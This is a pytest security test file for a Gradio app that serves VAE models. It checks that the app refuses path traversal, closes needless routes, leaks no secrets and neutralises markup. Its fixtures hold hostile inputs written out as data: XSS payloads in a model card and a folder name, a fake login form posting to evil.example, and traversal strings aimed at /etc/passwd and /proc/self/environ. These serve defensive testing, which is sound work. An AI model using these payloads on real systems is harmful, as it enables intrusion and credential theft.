"""What strangers may try on a running app: other files, secrets, needless routes, markup in cards and names."""

from __future__ import annotations

import http.client
import json
import os
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from support import REPOSITORY, TINY, App, resident, widget_call

from hfvae import hub

SECRET = "hf_thisIsNobodysToken"
MARKUP = """---
license: mit
---

# Card

<script>window.hacked = 1</script>
<img src="x" onerror="window.hacked = 2">
<iframe src="javascript:parent.hacked = 3"></iframe>
<svg onload="window.hacked = 4"></svg>
<a id="link" href="javascript:window.hacked = 5">press</a> and [press too](javascript:window.hacked=6)
<style>body { display: none }</style>
<form id="login" action="http://evil.example/"><input type="password" name="password"></form>
<div style="position: fixed; inset: 0">Your session has expired</div>
<img src="http://evil.example/a.png" srcset="http://evil.example/b.png 2x">
<svg><image href="http://evil.example/c.png"></image></svg>
<input type="image" src="http://evil.example/d.png">

![own](figures/samples.png) ![foreign](http://evil.example/e.png) ![other](figures/../../secret.txt)
"""


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    """The app beside a secret, with a model whose name and card bring markup along. Its log may hold tracebacks: Gradio
    writes one for a function that is none of the page's.
    """
    root = tmp_path_factory.mktemp("root")
    (root / "secret.txt").write_text(SECRET)
    folder = root / "<img src=x onerror='window.hacked = 7'>"
    TINY["dense"]().save_pretrained(folder)
    (folder / hub.CARD).write_text(MARKUP)
    (folder / hub.FIGURES).mkdir()
    Image.new("L", (8, 8)).save(folder / hub.FIGURES / "samples.png")
    (folder / hub.FIGURES / "text.png").write_text(SECRET)
    (root / "link.txt").symlink_to(root / "secret.txt")
    environment = {"HF_TOKEN": SECRET, "HF_HUB_OFFLINE": "1", "GRADIO_TEMP_DIR": str(root / "temp")}
    app = App(
        root / "log", "--model", "mnist-dense-2d", "--model", str(folder), "--model", str(root / "none"), **environment
    )
    app.root = root  # type: ignore[attr-defined]
    yield app
    app.stop()


def request(
    app: App, path: str, method: str = "GET", body: Any = None, **headers: str
) -> tuple[int, str, http.client.HTTPMessage]:
    """The path as it is: urllib would tidy it up."""
    connection = http.client.HTTPConnection("127.0.0.1", app.port, timeout=30)
    kind = {"Content-Type": "application/json"} if body is not None else {}
    given = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request(method, path, json.dumps(body) if body is not None else None, {**kind, **given})
    with closing(connection):
        response = connection.getresponse()
        return response.status, response.read(5_000_000).decode("utf-8", "replace"), response.headers


def ask(app: App, path: str, method: str = "GET", body: Any = None, **headers: str) -> tuple[int, str]:
    status, text, _ = request(app, path, method, body, **headers)
    return status, text


def page_call(app: App, **changes: Any) -> dict[str, Any]:
    return widget_call(json.loads(ask(app, "/config")[1]), **changes)


def told(text: str, app: App) -> list[str]:
    """What of this machine's own a text gives away."""
    own = [SECRET, str(app.root), str(REPOSITORY), str(Path.home()) + "/", "Traceback", "site-packages"]  # type: ignore[attr-defined]
    return [word for word in own if word in text]


@pytest.mark.parametrize("prefix", ["/gradio_api/file=", "/gradio_api/file/", "/static/", "/assets/", "/svelte/"])
def test_no_other_file_is_served(app: App, prefix: str) -> None:
    root, relative = app.root, os.path.relpath(app.root, REPOSITORY)  # type: ignore[attr-defined]
    files = [root / "secret.txt", root / "link.txt", root / "log", REPOSITORY / "pyproject.toml", "/etc/passwd"]
    ways = [
        *map(str, files),
        f"{relative}/secret.txt",
        "pyproject.toml",
        "app.py",
        "..",
        *("../" * depth + "etc/passwd" for depth in (1, 8, 12)),
        "....//....//....//etc/passwd",
        "..\\..\\etc\\passwd",
        f"file://{root}/secret.txt",
        f"/proc/self/root{root}/secret.txt",
        "/proc/self/environ",
    ]
    for way in ways:
        once = urllib.parse.quote(way, safe="")
        for path in {urllib.parse.quote(way), once, once.replace(".", "%2e"), urllib.parse.quote(once, safe="")}:
            status, text = ask(app, prefix + path)
            assert status >= 400, (path, text[:200])
            assert told(text.replace(way, ""), app) == [], path


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/gradio_api/upload"),
        ("GET", "/gradio_api/deep_link?session_hash=x"),
        ("GET", "/gradio_api/proxy=http://127.0.0.1:1/x"),
        ("POST", "/gradio_api/stream/x"),
        ("POST", "/gradio_api/process_recording"),
        ("POST", "/gradio_api/vibe-edit"),
        ("GET", "/gradio_api/dev/reload"),
        ("GET", "/monitoring"),
        ("GET", "/monitoring/summary"),
        ("GET", "/gradio_api/runs"),
        ("GET", "/gradio_api/run-history/buckets"),
        ("GET", "/docs"),
        ("GET", "/redoc"),
        ("GET", "/openapi.json"),
    ],
)
def test_what_the_page_does_not_need_is_closed(app: App, method: str, path: str) -> None:
    status, text = ask(app, path, method, {} if method == "POST" else None)
    assert status == 404, text[:300]


def test_nothing_of_this_machine_is_told(app: App) -> None:
    call = page_call(app)
    for method, path, body in (
        ("GET", "/", None),
        ("GET", "/config", None),
        ("GET", "/gradio_api/info", None),
        ("GET", "/gradio_api/startup-events", None),
        ("GET", "/nowhere", None),
        ("GET", "/theme.css", None),
        ("POST", "/gradio_api/component_server", {**call, "data": {"model": "../..", "z": []}}),
        ("POST", "/gradio_api/component_server", {**call, "data": {"model": "mnist-dense-2d", "z": [[1, "x"]]}}),
        ("POST", "/gradio_api/component_server", {**call, "fn_name": "nothing", "data": {}}),
        ("POST", "/gradio_api/component_server", {"nonsense": True}),
        ("POST", "/gradio_api/component_server", [1]),
        ("POST", "/gradio_api/queue/join", {"fn_index": 10**9, "data": [], "session_hash": "x"}),
        ("POST", "/gradio_api/run/generate", {"data": ["nobody"]}),
        ("POST", "/gradio_api/call/nothing", {"data": []}),
    ):
        assert told(ask(app, path, method, body)[1], app) == [], path


@pytest.mark.browser
def test_markup_in_cards_and_names_does_nothing(app: App, browser: Any) -> None:
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(app.url)
    page.wait_for_function("document.documentElement.dataset.ready")
    page.locator("#model").select_option(index=1)
    page.get_by_role("button", name="Model card", exact=True).click()
    page.get_by_role("heading", name="Card", exact=True).wait_for()
    assert (
        page.locator("#card form, #card input, #card svg, #card iframe, #card style, #card [style*=fixed]").count() == 0
    )
    assert "Your session has expired" in page.locator("#card").inner_text(), "as the text that it is"
    shown = page.locator("#card-1 img").all()
    assert [image.get_attribute("src") for image in shown] == ["card-figures/1/samples.png"]
    page.wait_for_function("document.querySelector('#card-1 img').naturalWidth === 8")
    for link in page.locator("#card a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")
    page.wait_for_load_state("networkidle")  # images and scripts of the card would have been tried
    assert page.evaluate("window.hacked") is None
    assert not [url for url in asked if "evil" in url]
    assert page.locator("#pad").is_visible(), "a card's styles reach nothing"
    page.close()


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("1/samples.png", 200),
        ("1/text.png", 404),
        ("0/nothing.png", 404),
        ("9/samples.png", 404),
        ("1/..%2f..%2fx.png", 404),
    ],
)
def test_figures_of_cards(app: App, path: str, status: int) -> None:
    answered, _, headers = request(app, f"/card-figures/{path}")
    assert answered == status
    if status == 200:
        assert headers["Content-Type"] == "image/png"


def test_every_answer_carries_the_headers(app: App) -> None:
    for path in ("/", "/config", "/nowhere", "/theme.css", "/healthz", "/gradio_api/upload"):
        _, _, headers = request(app, path)
        policy = headers["Content-Security-Policy"]
        for part in (
            "default-src 'self'",
            "img-src 'self' data: blob:",
            "form-action 'self'",
            "frame-ancestors 'self'",
        ):
            assert part in policy, path
        assert "http" not in policy
        assert headers["Referrer-Policy"] == "no-referrer"
        assert headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"Host": "localhost:1"}, 200),
        ({"Host": "evil.example"}, 421),
        ({"Host": "127.0.0.1.evil.example:80"}, 421),
        ({"Origin": "http://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1:80"}, 200),
    ],
    ids=str,
)
def test_other_names_and_pages_are_refused(app: App, headers: dict[str, str], status: int) -> None:
    for path, method, body in (("/config", "GET", None), ("/gradio_api/component_server", "POST", page_call(app))):
        answered, _, back = request(app, path, method, body, **headers)
        assert answered == status, path
        assert back["Access-Control-Allow-Credentials"] is None
        assert "evil" not in (back["Access-Control-Allow-Origin"] or "")


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""]
)
def test_a_call_is_json(app: App, kind: str) -> None:
    for path in ("component_server", "call/generate", "queue/join"):
        assert ask(app, f"/gradio_api/{path}", "POST", page_call(app), Content_Type=kind)[0] == 415


@pytest.mark.parametrize("name", ["session_hash", "fn_name", "event_id", "trigger_id"])
@pytest.mark.parametrize(
    "value", ["a" * 65, "a" * 900_000, "", "a b", "x\nFAKE", {"a": 1}], ids=lambda value: str(value)[:9]
)
def test_identifiers_are_short_and_plain(app: App, name: str, value: Any) -> None:
    status, text = ask(app, "/gradio_api/component_server", "POST", page_call(app, **{name: value}))
    assert status == 400
    assert f"{name} must be 1 to 64 letters" in text
    if isinstance(value, str) and len(value) < 100:
        path = "/gradio_api/queue/data?session_hash=" + urllib.parse.quote(value)
        assert ask(app, path)[0] >= 400


@pytest.mark.timeout(300)
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc")
def test_what_nobody_reads_is_not_kept(app: App) -> None:
    call = {"data": ["mnist-dense-2d", 100, 1.0, 0, None]}

    def unread(count: int) -> list[int]:
        return [ask(app, "/gradio_api/call/generate", "POST", call)[0] for _ in range(count)]

    for number in range(20):
        assert ask(app, "/gradio_api/component_server", "POST", page_call(app, session_hash=f"w{number}"))[0] == 200
    unread(20)
    before = resident(app.process.pid)
    assert set(unread(120)) <= {200, 429}
    for number in range(200):
        ask(app, "/gradio_api/component_server", "POST", page_call(app, session_hash=f"s{number}"))
    assert resident(app.process.pid) - before < 60, "3.4 MiB a call and 0.1 MiB a session, if they were kept"
    status, text = ask(app, "/gradio_api/call/generate", "POST", {"data": ["mnist-dense-2d", 1, 1.0, 0, None]})
    for _ in range(100):
        if status == 200:
            break
        time.sleep(0.2)  # until the calls that wait are done
        status, text = ask(app, "/gradio_api/call/generate", "POST", {"data": ["mnist-dense-2d", 1, 1.0, 0, None]})
    _, events = ask(app, f"/gradio_api/call/generate/{json.loads(text)['event_id']}")
    assert "event: complete" in events, "a visitor who reads is answered"


@pytest.mark.timeout(300)
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc")
def test_nothing_of_an_answer_is_kept_once_it_was_read(app: App) -> None:
    def read(count: int) -> None:
        call = {"data": ["mnist-dense-2d", 100, 1.0, 0, None]}
        for _ in range(count):
            _, text = ask(app, "/gradio_api/call/generate", "POST", call)
            ask(app, f"/gradio_api/call/generate/{json.loads(text)['event_id']}")

    read(20)
    before = resident(app.process.pid)
    read(60)
    assert resident(app.process.pid) - before < 25, "Gradio keeps each session's last answer, 1 MiB each"
